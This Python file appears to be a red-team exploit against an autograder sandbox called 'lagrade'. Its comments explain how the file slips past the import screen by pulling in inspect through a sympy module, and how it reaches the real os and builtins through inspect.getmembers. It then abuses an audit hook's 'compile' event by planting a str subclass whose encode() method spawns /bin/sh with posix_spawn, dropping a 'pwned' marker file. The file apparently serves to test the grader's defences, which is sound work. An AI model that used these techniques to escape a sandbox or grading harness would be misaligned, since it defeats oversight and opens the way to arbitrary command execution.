"""effect: run-command
tries: a str subclass whose encode() runs while the hook checks a 'compile' event (busy) starts /bin/sh with os.posix_spawn.

Route 1 through source.encode in the hook; posix_spawn instead of system.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.sets.sets import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    pid = members(os_)["posix_spawn"]("/bin/sh", ["sh", "-c", "id > /tmp/lagrade-redteam/drop/pwned-r1_encode_compile_posix_spawn"], {})
    os_.waitpid(pid, 0)

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1 through the "compile" event: the hook calls source.encode(...) on a str source
def hook_encode(self, *args, **kwargs):
    once()
    return b"def monomial_x(): pass"


Evil = type("Evil", (str,), {"encode": hook_encode})
sys_.audit("compile", Evil("x"), "<string>")
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway
